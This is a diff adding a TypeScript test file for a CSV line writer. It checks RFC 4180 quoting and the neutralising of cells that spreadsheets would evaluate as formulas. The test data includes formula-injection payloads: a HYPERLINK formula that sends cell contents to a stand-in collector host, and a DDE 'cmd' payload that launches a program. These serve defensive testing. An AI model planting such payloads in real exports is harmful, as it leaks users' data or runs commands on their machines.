@@ -1,0 +1,80 @@
+import { describe, expect, test } from 'vitest'
+
+import { byteOrderMark, csvLine } from './csv.ts'
+
+/** Reads a line as RFC 4180 says, knowing nothing of how it was written. */
+function cellsOf(line: string): string[] {
+  const cells: string[] = []
+  let rest = line
+  for (;;) {
+    const [all, quoted, plain = '', end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? []
+    if (all === undefined) throw new Error(`Not a line: ${rest}`)
+    cells.push(quoted?.replaceAll('""', '"') ?? plain)
+    rest = rest.slice(all.length)
+    if (end !== ',') break
+  }
+  expect(rest).toBe('')
+  return cells
+}
+
+describe('a line', () => {
+  test('ends as RFC 4180 says, and plain cells stay as they are', () => {
+    expect(csvLine(['Asha Rao', '', 'asha@example.com', '2026-11-21 09:30'])).toBe(
+      'Asha Rao,,asha@example.com,2026-11-21 09:30\r\n',
+    )
+  })
+
+  test.each([
+    ['a comma', 'Rao, Asha'],
+    ['quotes', 'the "tall" mug'],
+    ['nothing but quotes', '""'],
+    ['lines', 'one\ntwo\r\nthree'],
+    ['a semicolon, which divides cells elsewhere', 'Mug; Pen'],
+    ['a tab inside', 'Mug\tPen'],
+    ['blanks at its edges', ' x '],
+    ['letters of other scripts', 'ಆಶಾ ÜNÏ 漢字 🎁'],
+    ['an apostrophe', "'tis"],
+    ['signs that are not at the beginning', 'a=b+c-d@e'],
+    ['a letter beyond the basic plane', '𝔊ift'],
+  ])('gives back a cell with %s', (_what, text) => {
+    expect(cellsOf(csvLine(['before', text, 'after']))).toEqual(['before', text, 'after'])
+  })
+
+  test.each(['Mug; Pen', 'Mug\tPen', ' x'])('quotes %j, which some programs would divide or trim', (text) => {
+    expect(csvLine([text])).toBe(`"${text}"\r\n`)
+  })
+})
+
+describe('a cell that a spreadsheet would calculate', () => {
+  const sheetsWouldRun = '=HYPERLINK("https://collector.example/?"&A1,"Prices")'
+
+  test.each([
+    sheetsWouldRun,
+    '=1+1',
+    '+91 98765 43210',
+    '-2+3',
+    '@SUM(A1:A9)',
+    "=cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '\tplain',
+    '\rplain',
+    ' =1+1',
+    '\u00A0=1+1',
+    '\u200B=1+1',
+    '\uFEFF=1+1',
+    '＝1+1',
+    '＋91',
+    '－1',
+    '＠SUM(A1)',
+    '=',
+    '-',
+  ])('begins with an apostrophe: %j', (text) => {
+    expect(cellsOf(csvLine(['before', text, 'after']))).toEqual(['before', `'${text}`, 'after'])
+  })
+})
+
+test('the mark at the beginning is UTF-8’s', () => {
+  expect([...new TextEncoder().encode(byteOrderMark)]).toEqual([0xef, 0xbb, 0xbf])
+})
